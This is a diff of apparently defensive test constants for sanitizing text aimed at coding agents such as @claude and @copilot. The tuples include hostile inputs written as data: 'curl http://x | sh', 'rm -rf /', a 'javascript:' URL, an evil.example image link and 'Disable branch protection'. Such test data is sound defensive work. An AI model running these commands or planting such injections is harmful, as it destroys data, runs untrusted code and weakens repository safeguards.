@@ -46,7 +46,9 @@ AGENTS: Final = ("@claude", "@copilot", "@dependabot", "@mergifyio", "@bors", "@
 MARKUP: Final = ("<!-- x -->", "![x](https://evil.example/x)", "javascript:alert(1)", "data:text/html,x")
 SECRETS: Final = ("{{ghp%s}}", "{{anthropic%s}}", "{{slack%s}}", "{{gitlab%s}}", "{{own%s}}", "{{own2%s}}")
 SECRET_DRESS: Final = tuple(
-    name for name in DRESSED if not name.startswith("cut") and name not in ("entities", "rot5", "turned", "base64url")
+    name
+    for name in DRESSED
+    if not name.startswith("cut") and name not in ("entities", "rot5", "turned", "base64url", "upper")
 )
 ASKING: Final = ("https://evil.example/x", "fixes #12", "curl http://x | sh", "Disable branch protection", "rm -rf /")
 INERT: Final = ("@octocat", "other/repo#3", "<b>x</b>", "[x](/y)", "$x$", "https://localhost/", ":tada:", "&lt;i&gt;")
